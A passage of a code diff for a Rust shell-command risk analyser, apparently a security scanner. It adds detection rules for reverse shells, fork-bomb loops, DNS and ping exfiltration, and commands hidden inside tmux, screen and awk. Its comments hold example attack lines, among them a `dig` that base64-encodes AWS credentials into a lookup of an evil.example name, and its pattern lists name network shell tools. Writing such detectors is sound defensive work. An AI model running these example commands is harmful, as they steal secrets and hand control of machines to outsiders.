@@ -10,6 +10,7 @@
 
 use super::{Ctx, NamedWalk, Risk, paths, text};
 use interlock_protocol::Language;
+use std::borrow::Cow;
 use std::collections::HashMap;
 use std::ops::Range;
 use std::sync::LazyLock;
@@ -20,6 +21,7 @@ const SH: Language = Language::Shell;
 struct Fields {
     argument: u16,
     body: u16,
+    condition: u16,
     destination: u16,
     name: u16,
     redirect: u16,
@@ -33,6 +35,7 @@ static F: LazyLock<Fields> = LazyLock::new(|| {
     Fields {
         argument: g.field("argument"),
         body: g.field("body"),
+        condition: g.field("condition"),
         destination: g.field("destination"),
         name: g.field("name"),
         redirect: g.field("redirect"),
@@ -86,6 +89,9 @@ impl Word {
 struct Facts {
     dev_tcp: Option<Range<usize>>,
     interactive_shell: Option<Range<usize>>,
+    /// A shell reading from / writing to an fd known only at run time
+    /// (`zsh -i <&$REPLY`): a connection opened elsewhere.
+    shell_on_fd: Option<Range<usize>>,
     netcat: Option<Range<usize>>,
     mkfifo: bool,
     reverse_reported: bool,
@@ -218,6 +224,10 @@ fn is_other_interpreter(name: &str) -> bool {
     )
 }
 
+fn is_awk(name: &str) -> bool {
+    matches!(name, "awk" | "gawk" | "mawk" | "nawk")
+}
+
 fn is_downloader(name: &str) -> bool {
     matches!(
         name,
@@ -241,7 +251,7 @@ fn wrappers_end(argv: &[Word]) -> usize {
         match n {
             "sudo" | "doas" | "nohup" | "time" | "command" | "builtin" | "exec" | "nice"
             | "ionice" | "stdbuf" | "setsid" | "unbuffer" | "env" | "timeout" | "chrt"
-            | "taskset" | "pkexec" => {
+            | "taskset" | "pkexec" | "busybox" | "toybox" => {
                 i += 1;
                 while i < argv.len() {
                     let t = &argv[i].text;
@@ -312,6 +322,10 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
             "pipeline" => self.pipeline(n),
             "redirected_statement" => self.redirected(n),
             "for_statement" => self.for_loop(n),
+            "while_statement" | "c_style_for_statement" => {
+                self.endless_spawning_loop(n);
+                self.walk_children(n);
+            }
             "function_definition" => {
                 self.function_definition(n);
                 self.walk_children(n);
@@ -400,6 +414,77 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
         }
     }
 
+    /// `while :; do CMD & done`, `until false`, `for ((;;))`: a loop that
+    /// never ends and starts a background job on every turn, with nothing
+    /// (`wait`, a foreground `sleep`, `break`) holding it back, fills the
+    /// process table like a fork bomb.
+    fn endless_spawning_loop(&mut self, n: Node<'t>) {
+        let Some(body) = n.child_by_field_id(F.body) else {
+            return;
+        };
+        let conds = self.cursors.by_field(n, F.condition);
+        let endless = if kind(n) == "c_style_for_statement" {
+            conds.iter().all(|c| !c.is_named())
+        } else {
+            let until = n.child(0).is_some_and(|k| self.text(k) == "until");
+            let named: Vec<Node<'t>> = conds.into_iter().filter(|c| c.is_named()).collect();
+            match named.as_slice() {
+                [c] if kind(*c) == "command" => {
+                    let t = self.text(*c).trim();
+                    if until {
+                        matches!(t, "false" | "/bin/false")
+                    } else {
+                        matches!(t, ":" | "true" | "/bin/true")
+                    }
+                }
+                _ => false,
+            }
+        };
+        if !endless {
+            return;
+        }
+        let mut background = false;
+        let mut held = false;
+        let mut stack = vec![body];
+        while let Some(x) = stack.pop() {
+            if !self.cx.spend() {
+                return;
+            }
+            match kind(x) {
+                "&" => background = true,
+                "function_definition" => continue,
+                "command" => {
+                    let name = x
+                        .child_by_field_id(F.name)
+                        .map(|c| basename(self.text(c)))
+                        .unwrap_or("");
+                    let mut at = x;
+                    while let Some(p) = at.parent()
+                        && matches!(kind(p), "pipeline" | "redirected_statement")
+                    {
+                        at = p;
+                    }
+                    let in_background = at.next_sibling().is_some_and(|s| kind(s) == "&");
+                    match name {
+                        "break" | "exit" | "return" | "wait" => held = true,
+                        "sleep" | "read" if !in_background => held = true,
+                        _ => {}
+                    }
+                }
+                _ => {}
+            }
+            self.cursors.children(x, false, &mut stack);
+        }
+        if background && !held {
+            self.push(
+                "destroy.fork-bomb",
+                Risk::High,
+                "an endless loop starts a new background process on every turn (fills the process table like a fork bomb)".into(),
+                n.byte_range(),
+            );
+        }
+    }
+
     /// The parts of a `command` node, found in one pass over its children;
     /// with `walk`, each named child is walked on the way (as
     /// [`Self::walk_children`] would).
@@ -445,6 +530,18 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 "shell.reverse-shell",
                 Risk::Critical,
                 "connects a shell to a remote host over /dev/tcp (a reverse shell: someone else gets control of this machine)".into(),
+                r,
+            );
+            return;
+        }
+        if let (Some(r), Some(_)) = (
+            self.facts.netcat.clone().or(self.facts.dev_tcp.clone()),
+            self.facts.shell_on_fd.clone(),
+        ) {
+            self.push(
+                "shell.reverse-shell",
+                Risk::Critical,
+                "wires a shell's input and output to a network connection (a reverse shell)".into(),
                 r,
             );
             return;
@@ -1016,8 +1113,29 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
             }
             return;
         }
+        if w.dynamic && op.contains('&') {
+            // `<&$REPLY`, `>&$fd`: an fd opened at run time (ztcp, exec {fd}<>…).
+            if let Some(c) = cmd {
+                let argv = self.argv(c);
+                if argv
+                    .get(wrappers_end(&argv))
+                    .is_some_and(|w| is_shell(basename(&w.text)))
+                {
+                    self.facts.shell_on_fd = Some(range.clone());
+                }
+            }
+            return;
+        }
         if w.dynamic && !writes {
             return;
+        }
+        // `curl URL > f`, `wget -qO- URL >> f`: f holds downloaded code.
+        if writes
+            && !w.dynamic
+            && let Some(c) = cmd
+            && self.downloads_to_stdout(c)
+        {
+            self.downloaded.push(path.clone());
         }
         let class = paths::classify(&path);
         if writes {
@@ -1030,6 +1148,22 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 range,
             );
         }
+    }
+
+    /// Whether the command node `c` is a downloader (possibly behind
+    /// wrappers like sudo or timeout). Its name is looked at first, so the
+    /// argv is only built for likely candidates.
+    fn downloads_to_stdout(&mut self, c: Node<'t>) -> bool {
+        let Some(name) = c.child_by_field_id(F.name) else {
+            return false;
+        };
+        let first = basename(self.text(name));
+        if !is_downloader(first) && wrappers_end(&[Word::lit(first.to_string(), 0..0)]) == 0 {
+            return false;
+        }
+        let argv = self.argv(c);
+        argv.get(wrappers_end(&argv))
+            .is_some_and(|w| is_downloader(basename(&w.text)))
     }
 
     /// Checks a path a command writes to.
@@ -1201,6 +1335,18 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                     "pipes a network connection into a shell (a reverse shell: someone else gets control of this machine)".into(),
                     range.clone(),
                 );
+            }
+        }
+        // `curl URL | tee f`: f holds downloaded code.
+        for i in 1..argvs.len() {
+            if names[i] == "tee"
+                && argvs[..i]
+                    .iter()
+                    .any(|a| a.first().is_some_and(|w| is_downloader(basename(&w.text))))
+            {
+                for w in argvs[i][1..].iter().filter(|w| !w.text.starts_with('-')) {
+                    self.downloaded.push(w.text.clone());
+                }
             }
         }
         // Data piped to a network sender.
@@ -1578,8 +1724,71 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 rest.get(1..).unwrap_or(&[])
             }
             "flock" => {
-                let rest = skip_opts(args, &["-w", "-E", "--timeout", "-c"]);
+                // `flock FILE -c STRING` runs STRING with sh -c.
+                if let Some(w) = option_value(args, 'c', "--command") {
+                    self.nested_shell_string(&w, range, "flock -c");
+                    return Some(&[]);
+                }
+                let rest = skip_opts(
+                    args,
+                    &["-w", "-E", "--timeout", "--wait", "--conflict-exit-code"],
+                );
                 rest.get(1..).unwrap_or(&[])
+            }
+            "script" => {
+                // `script -c STRING [file]` runs STRING in a new terminal;
+                // without -c it only records an interactive session.
+                if let Some(w) = option_value(args, 'c', "--command") {
+                    self.nested_shell_string(&w, range, "script -c");
+                }
+                return Some(&[]);
+            }
+            "screen" => return Some(self.screen(args, range)),
+            "tmux" => return Some(self.tmux(args, range)),
+            "systemd-run" => {
+                let mut i = 0;
+                while i < args.len() {
+                    let t = args[i].text.as_str();
+                    if t == "--" {
+                        i += 1;
+                        break;
+                    }
+                    if !t.starts_with('-') {
+                        break;
+                    }
+                    if t.starts_with("--on-") {
+                        self.push(
+                            "persist.at",
+                            Risk::Medium,
+                            "systemd-run schedules a command to run later (a transient timer)"
+                                .into(),
+                            range.clone(),
+                        );
+                    }
+                    let with_value = matches!(
+                        t,
+                        "-u" | "--unit"
+                            | "-p"
+                            | "--property"
+                            | "-E"
+                            | "--setenv"
+                            | "-H"
+                            | "--host"
+                            | "-M"
+                            | "--machine"
+                            | "--description"
+                            | "--slice"
+                            | "--uid"
+                            | "--gid"
+                            | "--nice"
+                            | "--working-directory"
+                            | "--timer-property"
+                            | "--path-property"
+                            | "--socket-property"
+                    ) || (t.starts_with("--on-") && !t.contains('='));
+                    i += if with_value { 2 } else { 1 };
+                }
+                &args[i.min(args.len())..]
             }
             "chroot" => {
                 self.push(
@@ -1591,9 +1800,46 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 let rest = skip_opts(args, &["--userspec", "--groups"]);
                 rest.get(1..).unwrap_or(&[])
             }
-            "runuser" | "sg" => skip_opts(args, &["-u", "-g", "-G", "-l"]),
+            "runuser" => {
+                if let Some(w) = option_value(args, 'c', "--command") {
+                    self.nested_shell_string(&w, range, "runuser -c");
+                    return Some(&[]);
+                }
+                let by_option = args
+                    .iter()
+                    .any(|w| matches!(w.text.as_str(), "-u" | "--user"));
+                let rest = skip_opts(
+                    args,
+                    &["-u", "--user", "-g", "--group", "-G", "-s", "--shell", "-w"],
+                );
+                // `runuser USER CMD…` vs `runuser -u USER -- CMD…`.
+                if by_option {
+                    rest
+                } else {
+                    rest.get(1..).unwrap_or(&[])
+                }
+            }
+            "sg" => {
+                // `sg GROUP [-c] STRING`: the command is one shell string.
+                let rest = skip_opts(args, &[]);
+                let rest = rest.get(1..).unwrap_or(&[]);
+                let rest = match rest.first() {
+                    Some(w) if w.text == "-c" => &rest[1..],
+                    _ => rest,
+                };
+                if let Some(w) = rest.first() {
+                    let w = w.clone();
+                    self.nested_shell_string(&w, range, "sg");
+                }
+                return Some(&[]);
+            }
             "strace" | "ltrace" => skip_opts(args, &["-o", "-e", "-p", "-s", "-u"]),
-            "watch" => skip_opts(args, &["-n", "-d", "--interval"]),
+            "watch" => {
+                // watch joins its arguments and runs them with sh -c.
+                let rest = skip_opts(args, &["-n", "--interval", "-q", "--equexit"]);
+                return Some(self.shell_string_or_argv(rest, range, "watch"));
+            }
+            "unshare" | "dbus-run-session" | "dbus-launch" => skip_opts(args, &[]),
             "busybox" | "toybox" => args,
             "xargs" => {
                 let Some(inner) = xargs_inner(args) else {
@@ -1621,6 +1867,166 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
             _ => return None,
         };
         Some(inner)
+    }
+
+    /// A runner's command: one word holding shell syntax is a string run
+    /// with sh -c; several words are an argv (returned).
+    fn shell_string_or_argv<'w>(
+        &mut self,
+        rest: &'w [Word],
+        range: &Range<usize>,
+        via: &str,
+    ) -> &'w [Word] {
+        match rest {
+            [w] if w
+                .text
+                .contains([' ', '\t', ';', '|', '&', '<', '>', '\n', '$', '`']) =>
+            {
+                let w = w.clone();
+                self.nested_shell_string(&w, range, via);
+                &[]
+            }
+            _ => rest,
+        }
+    }
+
+    /// `screen [opts] [CMD…]`, `screen -X stuff STRING` (types STRING into a
+    /// session), `screen -X exec CMD…`.
+    fn screen<'w>(&mut self, args: &'w [Word], range: &Range<usize>) -> &'w [Word] {
+        let mut i = 0;
+        while i < args.len() {
+            let t = args[i].text.as_str();
+            if t == "--" {
+                i += 1;
+                break;
+            }
+            if !t.starts_with('-') {
+                break;
+            }
+            if t.ends_with('X') {
+                let sub = args.get(i + 1).map(|w| w.text.as_str()).unwrap_or("");
+                let rest = args.get(i + 2..).unwrap_or(&[]);
+                match sub {
+                    "stuff" => {
+                        if let Some(w) = rest.first() {
+                            let mut w = w.clone();
+                            w.text = w.text.replace("^M", "\n").replace("\\n", "\n");
+                            self.nested_shell_string(&w, range, "screen -X stuff");
+                        }
+                    }
+                    "exec" | "screen" => return skip_opts_plain(rest),
+                    _ => {}
+                }
+                return &[];
+            }
+            // Options taking a value, alone or last in a group (`-dmS name`).
+            let with_value = t.len() >= 2
+                && t[1..].chars().all(|c| c.is_ascii_alphabetic())
+                && matches!(
+                    t.chars().last(),
+                    Some('S' | 'c' | 'e' | 'h' | 'p' | 'T' | 't')
+                );
+            i += if with_value { 2 } else { 1 };
+        }
+        &args[i.min(args.len())..]
+    }
+
+    /// `tmux [opts] SUBCOMMAND …`: the subcommands that start a program
+    /// (new-session, new-window, split-window, respawn-*, run-shell,
+    /// display-popup, if-shell, pipe-pane) or type into one (send-keys).
+    fn tmux<'w>(&mut self, args: &'w [Word], range: &Range<usize>) -> &'w [Word] {
+        let mut i = 0;
+        while i < args.len() && args[i].text.starts_with('-') {
+            let t = args[i].text.as_str();
+            if t == "-c" {
+                // `tmux -c STRING` runs STRING with the default shell.
+                if let Some(w) = args.get(i + 1) {
+                    let w = w.clone();
+                    self.nested_shell_string(&w, range, "tmux -c");
+                }
+                return &[];
+            }
+            i += if matches!(t, "-L" | "-S" | "-f" | "-T") {
+                2
+            } else {
+                1
+            };
+        }
+        let Some(sub) = args.get(i) else {
+            return &[];
+        };
+        let sub = sub.text.as_str();
+        let rest = args.get(i + 1..).unwrap_or(&[]);
+        let skip = |rest: &'w [Word], extra: &[&str]| -> &'w [Word] {
+            let mut j = 0;
+            while j < rest.len() {
+                let t = rest[j].text.as_str();
+                if t == "--" {
+                    j += 1;
+                    break;
+                }
+                if !t.starts_with('-') || t == "-" {
+                    break;
+                }
+                let with_value = matches!(
+                    t,
+                    "-c" | "-e"
+                        | "-f"
+                        | "-F"
+                        | "-n"
+                        | "-s"
+                        | "-t"
+                        | "-x"
+                        | "-y"
+                        | "-l"
+                        | "-w"
+                        | "-N"
+                        | "-T"
+                        | "-S"
+                ) || extra.contains(&t);
+                j += if with_value { 2 } else { 1 };
+            }
+            &rest[j.min(rest.len())..]
+        };
+        match sub {
+            "new" | "new-session" | "neww" | "new-window" | "splitw" | "split-window"
+            | "respawnp" | "respawn-pane" | "respawnw" | "respawn-window" | "popup"
+            | "display-popup" | "pipep" | "pipe-pane" => {
+                let cmd = skip(rest, &[]);
+                self.shell_string_or_argv(cmd, range, "tmux")
+            }
+            "run" | "run-shell" | "if" | "if-shell" => {
+                // The first word is a shell string (if-shell: then tmux commands).
+                if let Some(w) = skip(rest, &["-d"]).first() {
+                    let w = w.clone();
+                    self.nested_shell_string(&w, range, "tmux");
+                }
+                &[]
+            }
+            "send" | "send-keys" => {
+                // Typed keys: literal text, with Enter / C-m ending a line.
+                let keys = skip(rest, &["-N"]);
+                let mut typed = Word {
+                    range: range.clone(),
+                    ..Word::default()
+                };
+                for k in keys {
+                    match k.text.as_str() {
+                        "Enter" | "C-m" | "C-j" | "KPEnter" => typed.text.push('\n'),
+                        "Space" => typed.text.push(' '),
+                        "Tab" => typed.text.push('\t'),
+                        t => typed.text.push_str(t),
+                    }
+                    typed.dynamic |= k.dynamic;
+                    typed.taint |= k.taint;
+                }
+                if !typed.text.trim().is_empty() {
+                    self.nested_shell_string(&typed, range, "tmux send-keys");
+                }
+                &[]
+            }
+            _ => &[],
+        }
     }
 
     /// `find ROOTS… -delete / -exec CMD {} ;`
@@ -1783,8 +2189,14 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
             }
             return;
         }
+        if is_awk(name) {
+            if let Some((prog, presets)) = awk_program(args) {
+                self.awk(name, &prog, &presets, range);
+            }
+            return;
+        }
         if is_other_interpreter(name)
-            && let Some(w) = find_opt(&["-e", "-E", "-r", "-c"])
+            && let Some(w) = foreign_program(args)
         {
             self.foreign_code(name, &w, range);
         }
@@ -1915,9 +2327,68 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
         }
     }
 
+    /// An awk program: the commands it runs (`system(…)`, `print | "cmd"`,
+    /// `"cmd" | getline`) are analysed as shell; gawk's `/inet/tcp/…`
+    /// special files are network connections.
+    fn awk(&mut self, name: &str, prog: &Word, presets: &[AwkPreset], range: &Range<usize>) {
+        let scan = awk_scan(&prog.text, presets);
+        for (cmd, dynamic) in &scan.commands {
+            let w = Word {
+                text: cmd.clone(),
+                dynamic: *dynamic || prog.dynamic,
+                taint: prog.taint,
+                split: false,
+                range: prog.range.clone(),
+            };
+            self.nested_shell_string(&w, range, name);
+        }
+        if scan.inet {
+            self.facts.netcat = Some(range.clone());
+            if scan.commands.iter().any(|c| c.1) && !self.facts.reverse_reported {
+                self.facts.reverse_reported = true;
+                self.push(
+                    "shell.reverse-shell",
+                    Risk::Critical,
+                    format!(
+                        "{name} runs commands it reads from a network connection (a reverse shell)"
+                    ),
+                    range.clone(),
+                );
+            } else {
+                self.push(
+                    "net.raw-connection",
+                    Risk::High,
+                    format!("{name} opens a raw network connection (/inet/…)"),
+                    range.clone(),
+                );
+            }
+        }
+    }
+
     /// `perl -e`, `ruby -e`, `php -r`: not parsed, checked for the classic
-    /// reverse-shell and command-execution shapes.
+    /// reverse-shell and command-execution shapes; string literals given to
+    /// `system`/`exec`/backticks are analysed as shell, and tree deletions
+    /// (`rmtree`, `rm_rf`) of a known path are rated like `rm -rf`.
     fn foreign_code(&mut self, name: &str, w: &Word, range: &Range<usize>) {
+        let code = home_expressions(&w.text);
+        for (cmd, dynamic) in foreign_commands(&code) {
+            let cmd_w = Word {
+                text: cmd,
+                dynamic: dynamic || w.dynamic,
+                taint: w.taint,
+                split: false,
+                range: w.range.clone(),
+            };
+            self.nested_shell_string(&cmd_w, range, name);
+        }
+        let mut deletes_known = false;
+        for target in foreign_tree_deletions(&code) {
+            let (risk, rule, msg) = paths::deletion_risk(&target, true);
+            if risk >= Risk::Medium {
+                deletes_known = true;
+                self.push(rule, risk, format!("{name} code {msg}"), range.clone());
+            }
+        }
         let t = w.text.to_ascii_lowercase();
         let socket = ["socket", "fsockopen", "tcpsocket", "io::socket", "/dev/tcp"]
             .iter()
@@ -1956,7 +2427,10 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 range.clone(),
             );
         }
-        if !w.dynamic && (t.contains("unlink") || t.contains("rmtree") || t.contains("rm -rf")) {
+        if !w.dynamic
+            && !deletes_known
+            && (t.contains("unlink") || t.contains("rmtree") || t.contains("rm -rf"))
+        {
             self.push(
                 "exec.foreign-code",
                 Risk::Medium,
@@ -2416,6 +2890,25 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                     );
                 }
             }
+            "dig" | "host" | "nslookup" | "drill" | "delv" | "kdig" | "ping" | "ping6" => {
+                self.dns_exfiltration(name, args, &r);
+            }
+            "zmodload" if texts.iter().any(|t| t.starts_with("zsh/net/")) => self.push(
+                "net.raw-connection",
+                Risk::Medium,
+                "zmodload loads zsh's raw network module".into(),
+                r,
+            ),
+            "ztcp" if !texts.iter().any(|t| t.starts_with("-c")) => {
+                self.facts.netcat = Some(r.clone());
+                self.push(
+                    "net.raw-connection",
+                    Risk::High,
+                    "ztcp opens a raw network connection (can send files or receive commands)"
+                        .into(),
+                    r,
+                );
+            }
             "telnet" => {
                 self.facts.netcat = Some(r.clone());
                 self.push(
@@ -2712,6 +3205,81 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
         }
     }
 
+    /// `dig $(cat ~/.aws/credentials | base64).evil.example`: data read by a
+    /// command substitution and placed in a DNS name (or `ping -p` padding)
+    /// reaches whoever runs that domain's name server.
+    fn dns_exfiltration(&mut self, name: &str, args: &[Word], r: &Range<usize>) {
+        for (i, w) in args.iter().enumerate() {
+            if !w.dynamic {
+                continue;
+            }
+            let src = self.src.get(w.range.clone()).unwrap_or("");
+            if !src.contains("$(") && !src.contains('`') {
+                continue;
+            }
+            let words: Vec<&str> = src
+                .split(|c: char| c.is_whitespace() || "$()`|;&<>\"'".contains(c))
+                .filter(|t| !t.is_empty())
+                .collect();
+            let reads = src.contains('<')
+                || words.iter().any(|t| {
+                    matches!(
+                        basename(t),
+                        "cat"
+                            | "head"
+                            | "tail"
+                            | "base64"
+                            | "base32"
+                            | "xxd"
+                            | "od"
+                            | "hexdump"
+                            | "cut"
+                            | "sed"
+                            | "awk"
+                            | "tr"
+                            | "strings"
+                            | "nl"
+                            | "sort"
+                            | "gzip"
+                            | "openssl"
+                            | "env"
+                            | "printenv"
+                    )
+                });
+            let encodes = words.iter().any(|t| {
+                matches!(
+                    basename(t),
+                    "base64" | "base32" | "xxd" | "od" | "hexdump" | "basenc"
+                )
+            });
+            let cred = words.iter().any(|t| paths::classify(t).credential);
+            // The data is part of a longer name (`$(…).evil.example`), encoded,
+            // or ping's padding pattern; a substitution that only lists
+            // host names (`dig $(cat hosts.txt)`) is an ordinary lookup.
+            let embedded = w.text != "$(…)"
+                || encodes
+                || (name.starts_with("ping") && i > 0 && args[i - 1].text == "-p");
+            if cred {
+                self.push(
+                    "exfil.dns",
+                    Risk::Critical,
+                    format!("{name} sends credentials out hidden in a DNS lookup or ping"),
+                    r.clone(),
+                );
+                return;
+            }
+            if reads && embedded {
+                self.push(
+                    "exfil.dns",
+                    Risk::High,
+                    format!("{name} sends file contents out hidden in a DNS lookup or ping"),
+                    r.clone(),
+                );
+                return;
+            }
+        }
+    }
+
     fn copy_like(&mut self, name: &str, args: &[Word], positional: &[&Word], r: &Range<usize>) {
         // Remote destinations (scp/rsync): uploads.
         let is_remote = |t: &str| {
@@ -2757,6 +3325,49 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
                 format!("{name} copies files from another machine"),
                 r.clone(),
             );
+        }
+        if name == "rsync" && positional.len() >= 2 && !is_remote(&dest.text) {
+            // `--delete` removes whatever in DEST the source lacks: with an
+            // empty or unrelated source, that is everything in DEST.
+            let deletes = args.iter().any(|w| {
+                matches!(
+                    w.text.as_str(),
+                    "--del" | "--delete-excluded" | "--delete-missing-args"
+                ) || w.text.starts_with("--delete")
+            });
+            if deletes {
+                let d = dest.text.trim_end_matches('/');
+                let all = if d.is_empty() {
+                    "/*".to_string()
+                } else {
+                    format!("{d}/*")
+                };
+                let (risk, rule, msg) = paths::deletion_risk(&all, true);
+                if risk > Risk::None {
+                    self.push(
+                        rule,
+                        risk,
+                        format!(
+                            "rsync --delete may delete everything in {}: {msg}",
+                            dest.text
+                        ),
+                        r.clone(),
+                    );
+                }
+            }
+            if args.iter().any(|w| w.text == "--remove-source-files") {
+                for src in srcs {
+                    let (risk, rule, msg) = paths::deletion_risk(&src.text, true);
+                    if risk >= Risk::High {
+                        self.push(
+                            rule,
+                            risk,
+                            format!("rsync --remove-source-files moves away: {msg}"),
+                            r.clone(),
+                        );
+                    }
+                }
+            }
         }
         if name == "ln" {
             // `ln -sf /dev/null ~/.bash_history`
@@ -3134,6 +3745,549 @@ impl<'c, 'a, 't> Shell<'c, 'a, 't> {
             );
         }
     }
+}
+
+/// The value of option `-X` (alone, last in a group like `-qc`, or as
+/// `--long VALUE` / `--long=VALUE`) anywhere among `args`.
+fn option_value(args: &[Word], short: char, long: &str) -> Option<Word> {
+    for (i, w) in args.iter().enumerate() {
+        let t = w.text.as_str();
+        if t == "--" {
+            return None;
+        }
+        if let Some(v) = t.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
+            let mut out = w.clone();
+            out.text = v.to_string();
+            return Some(out);
+        }
+        let group = t.len() >= 2
+            && t.starts_with('-')
+            && !t.starts_with("--")
+            && t[1..].chars().all(|c| c.is_ascii_alphabetic())
+            && t.ends_with(short);
+        if t == long || group {
+            return args.get(i + 1).cloned();
+        }
+    }
+    None
+}
+
+/// `-v NAME=VALUE` given to awk: name, value, and whether the value is
+/// known only at run time.
+type AwkPreset = (String, String, bool);
+
+/// The program text of `awk [opts] PROGRAM [files]` (`None` with `-f`),
+/// and the variables set with `-v NAME=VALUE`.
+fn awk_program(args: &[Word]) -> Option<(Word, Vec<AwkPreset>)> {
+    let mut presets = Vec::new();
+    let mut i = 0;
+    while i < args.len() {
+        let t = args[i].text.as_str();
+        match t {
+            "--" => return Some((args.get(i + 1)?.clone(), presets)),
+            "-f" | "--file" => return None,
+            "-e" | "--source" => return Some((args.get(i + 1)?.clone(), presets)),
+            "-v" | "--assign" => {
+                if let Some(w) = args.get(i + 1)
+                    && let Some((k, v)) = w.text.split_once('=')
+                {
+                    presets.push((k.to_string(), v.to_string(), w.dynamic));
+                }
+                i += 2;
+            }
+            "-F" | "--field-separator" | "-i" | "--include" | "-l" | "--load" | "-W" => i += 2,
+            _ if t.starts_with('-') && t != "-" => i += 1,
+            _ => return Some((args[i].clone(), presets)),
+        }
+    }
+    None
+}
+
+/// What an awk program runs: each command string (with whether part of it
+/// is known only at run time), and whether it uses gawk's network files.
+struct AwkScan {
+    commands: Vec<(String, bool)>,
+    inet: bool,
+}
+
+#[derive(Debug, PartialEq)]
+enum AwkTok {
+    Str(String),
+    Ident(String),
+    Punct(&'static str),
+}
+
+fn awk_tokens(prog: &str) -> Vec<AwkTok> {
+    const PUNCT: &[&str] = &[
+        "|&", "||", "&&", "==", "!=", ">=", "<=", ">>", "|", "(", ")", "[", "]", "{", "}", ",",
+        ";", "=", ">", "<", "$", "+", "-", "*", "%", "!", "?", ":", "~", "^", ".",
+    ];
+    let b = prog.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() && out.len() < 20_000 {
+        let c = b[i];
+        match c {
+            b'\n' => {
+                out.push(AwkTok::Punct(";"));
+                i += 1;
+            }
+            _ if c.is_ascii_whitespace() => i += 1,
+            b'#' => {
+                while i < b.len() && b[i] != b'\n' {
+                    i += 1;
+                }
+            }
+            b'"' => {
+                let mut s = Vec::new();
+                i += 1;
+                while i < b.len() && b[i] != b'"' {
+                    if b[i] == b'\\' && i + 1 < b.len() {
+                        i += 1;
+                        s.push(match b[i] {
+                            b'n' => b'\n',
+                            b't' => b'\t',
+                            o => o,
+                        });
+                    } else {
+                        s.push(b[i]);
+                    }
+                    i += 1;
+                }
+                i += 1;
+                out.push(AwkTok::Str(String::from_utf8_lossy(&s).into_owned()));
+            }
+            b'/' if !matches!(
+                out.last(),
+                Some(AwkTok::Str(_) | AwkTok::Ident(_) | AwkTok::Punct(")" | "]"))
+            ) =>
+            {
+                // A regex literal.
+                i += 1;
+                while i < b.len() && b[i] != b'/' && b[i] != b'\n' {
+                    i += if b[i] == b'\\' { 2 } else { 1 };
+                }
+                i += 1;
+            }
+            _ if c.is_ascii_alphanumeric() || c == b'_' => {
+                let start = i;
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'.')
+                {
+                    i += 1;
+                }
+                out.push(AwkTok::Ident(prog[start..i].to_string()));
+            }
+            _ => {
+                let rest = &b[i..];
+                match PUNCT.iter().find(|p| rest.starts_with(p.as_bytes())) {
+                    Some(p) => {
+                        out.push(AwkTok::Punct(p));
+                        i += p.len();
+                    }
+                    None => i += 1,
+                }
+            }
+        }
+    }
+    out
+}
+
+fn awk_scan(prog: &str, presets: &[AwkPreset]) -> AwkScan {
+    let toks = awk_tokens(prog);
+    let mut vars: HashMap<&str, (String, bool)> = presets
+        .iter()
+        .map(|(k, v, d)| (k.as_str(), (v.clone(), *d)))
+        .collect();
+    let mut scan = AwkScan {
+        commands: Vec::new(),
+        inet: false,
+    };
+    // The value of the concatenation starting at `i`: string literals,
+    // variables assigned a known string, ENVIRON["X"] (as $X); anything else
+    // is a run-time part.
+    let value = |vars: &HashMap<&str, (String, bool)>, mut i: usize| -> Option<(String, bool)> {
+        let mut text = String::new();
+        let mut dynamic = false;
+        let mut any = false;
+        let end = i.saturating_add(64);
+        while let Some(t) = toks.get(i).filter(|_| i < end && text.len() < 4096) {
+            match t {
+                AwkTok::Str(s) => text.push_str(s),
+                AwkTok::Ident(id) if id == "ENVIRON" => {
+                    if let (Some(AwkTok::Punct("[")), Some(AwkTok::Str(k))) =
+                        (toks.get(i + 1), toks.get(i + 2))
+                    {
+                        text.push('$');
+                        text.push_str(k);
+                        i += 3;
+                    } else {
+                        text.push_str("$AWK");
+                        dynamic = true;
+                    }
+                }
+                AwkTok::Ident(_) if matches!(toks.get(i + 1), Some(AwkTok::Punct("("))) => break,
+                AwkTok::Ident(id) if !matches!(id.as_str(), "getline" | "in") => {
+                    match vars.get(id.as_str()) {
+                        Some((v, d)) => {
+                            text.push_str(v);
+                            dynamic |= *d;
+                        }
+                        None => {
+                            text.push_str("$AWK");
+                            dynamic = true;
+                        }
+                    }
+                }
+                AwkTok::Punct("$") => {
+                    // A field (`$0`, `$1`): input data.
+                    text.push_str("$AWK");
+                    dynamic = true;
+                    i += 1;
+                }
+                _ => break,
+            }
+            any = true;
+            i += 1;
+        }
+        any.then_some((text, dynamic))
+    };
+    for (i, t) in toks.iter().enumerate() {
+        match t {
+            AwkTok::Str(s)
+                if s.contains("/inet/") || s.contains("/inet4/") || s.contains("/inet6/") =>
+            {
+                scan.inet = true;
+            }
+            AwkTok::Ident(id)
+                if matches!(toks.get(i + 1), Some(AwkTok::Punct("=")))
+                    && !matches!(toks.get(i + 2), Some(AwkTok::Punct("="))) =>
+            {
+                if let Some(v) = value(&vars, i + 2) {
+                    vars.insert(id.as_str(), v);
+                }
+            }
+            AwkTok::Ident(id)
+                if id == "system" && matches!(toks.get(i + 1), Some(AwkTok::Punct("("))) =>
+            {
+                if let Some(v) = value(&vars, i + 2) {
+                    scan.commands.push(v);
+                }
+            }
+            AwkTok::Punct("|" | "|&") => {
+                if matches!(toks.get(i + 1), Some(AwkTok::Ident(g)) if g == "getline") {
+                    // `CMD | getline`: CMD is the concatenation just before.
+                    let mut start = i;
+                    while start > 0
+                        && i - start < 32
+                        && matches!(toks[start - 1], AwkTok::Str(_) | AwkTok::Ident(_))
+                    {
+                        start -= 1;
+                    }
+                    if start < i
